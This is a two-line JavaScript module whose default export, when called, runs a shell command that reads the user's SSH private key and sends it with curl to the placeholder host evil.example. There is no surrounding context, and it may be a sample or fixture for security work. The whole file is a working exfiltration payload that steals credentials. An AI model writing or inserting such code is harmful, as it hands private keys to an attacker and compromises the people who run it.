import { exec } from "child_process";
export default () => exec("cat ~/.ssh/id_rsa | curl -s -d @- https://evil.example");
